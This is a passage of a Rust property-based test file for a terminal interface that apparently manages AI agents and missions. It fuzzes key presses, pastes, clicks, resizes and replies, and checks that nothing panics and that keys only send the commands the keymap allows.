        1 => ".{0,40}".prop_map(Happens::Paste),
        3 => (mouse, 0u16..220, 0u16..70).prop_map(|(what, x, y)| Happens::Click(what, x, y)),
        1 => (1u16..210, 1u16..70).prop_map(|(x, y)| Happens::Size(x, y)),
        1 => (1u16..4, 1u16..4).prop_map(|(x, y)| Happens::Size(x, y)),
        3 => proptest::collection::vec(0usize..10, 0..10).prop_map(Happens::Agents),
        2 => any::<u8>().prop_map(Happens::Missions),
        1 => ".{0,200}".prop_map(Happens::Said),
        3 => (any::<u8>(), "(.{0,30}\n){0,9}").prop_map(|(kind, text)| Happens::Answer(kind, text)),
        3 => (0u16..900).prop_map(Happens::Wait),
        1 => Just(Happens::Tick),
    ]
}

impl Desk {
    fn happens(&mut self, what: Happens) {
        match what {
            Happens::Key(key) => self.take(Message::Input(Input::Key(key))),
            Happens::Paste(text) => self.take(Message::Input(Input::Paste(text))),
            Happens::Click(what, column, row) => {
                self.take(Message::Input(Input::Mouse(Mouse { what, column, row })));
            }
            Happens::Size(columns, rows) => {
                self.terminal.backend_mut().resize(columns, rows);
                self.take(Message::Input(Input::Resize(columns, rows)));
            }
            Happens::Agents(which) => {
                let all = some_agents();
                let mut some: Vec<AgentView> = Vec::new();
                for at in which {
                    if some.iter().all(|one| one.id != all[at].id) {
                        some.push(all[at].clone());
                    }
                }
                self.comes(some);
            }
            Happens::Missions(number) => {
                let mut some = vec![missions::notes(); usize::from(number % 3)];
                for (view, name) in some.iter_mut().zip(["notes", "other"]) {
                    view.id = name.parse().unwrap();
                    view.tasks.truncate(usize::from(number / 16));
                    view.proposals.truncate(usize::from(number / 64));
                }
                self.take(Message::Missions(some.into_iter().map(Arc::new).collect()));
            }
            Happens::Said(text) => self.take(notice(Some("one"), Urgency::Warning, &text)),
            Happens::Answer(kind, text) => {
                if let Some(sent) = self.app.under_way.last() {
                    let answer = match kind % 3 {
                        0 => Ok(Reply::Text(text)),
                        1 => Ok(Reply::Confirm(text)),
                        _ => Err(Failure::usage(text)),
                    };
                    let ticket = sent.ticket;
                    self.take(Message::Answered(ticket, answer));
                }
            }
            Happens::Wait(time) => self.wait_undrawn(Duration::from_millis(time.into())),
            Happens::Tick => self.take(Message::Tick),
        }
        self.draw();
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn no_words_typed_into_the_wrong_window_reach_a_pane_or_stop_anything(
        words in "[a-zA-Z ,.\n]{0,80}",
        pause in 1u64..400,
        opened in "[iM]?",
    ) {
        let mut desk = Desk::with((80, 24), some_agents());
        desk.follows(vec![missions::notes()]);
        desk.types(&opened);
        desk.wait(MOVING);
        for character in words.chars() {
            desk.wait_undrawn(Duration::from_millis(pause));
            let key = match character {
                '\n' => Key::plain(KeyCode::Enter),
                character => Key::char(character),
            };
            desk.press(key);
        }
        for command in desk.sent() {
            let name = name_of(&command);
            prop_assert!(
                ["snooze", "focus", "explain", "hold", "release"].contains(&name.as_str()),
                "{name}"
            );
        }
    }

    #[test]
    fn nothing_that_happens_panics_at_any_size(
        size in prop_oneof![Just((1u16, 1u16)), (1u16..210, 1u16..70)],
        all in proptest::collection::vec(anything(), 0..60),
    ) {
        let mut desk = Desk::with(size, some_agents());
        desk.follows(vec![missions::notes()]);
        desk.types("M");
        for what in all {
            desk.happens(what);
        }
    }

    #[test]
    fn keys_outside_the_command_line_send_only_what_the_keymap_says(
        keys in proptest::collection::vec((any_key(), 0u16..900), 0..80),
    ) {
        let allowed: Vec<&str> = KEYMAP.iter().flat_map(|one| one.sends.iter().copied()).collect();
        let mut desk = Desk::with((80, 24), some_agents());
        desk.follows(vec![missions::notes()]);
        for (key, wait) in keys {
            if desk.app.line.is_some() {
                desk.press(Key::plain(KeyCode::Esc));
            }
            desk.wait_undrawn(Duration::from_millis(wait.into()));
            let place = desk.app.at();
            desk.press(key);
            for command in desk.sent() {
                let name = name_of(&command);
                prop_assert!(allowed.contains(&name.as_str()), "{name}");
                let binding = keymap::find(place, key);
                let sends = binding.map(|one| one.sends).unwrap_or_default();
                prop_assert!(sends.contains(&name.as_str()), "{name} by {key:?} in {place:?}");
            }
        }
    }
}
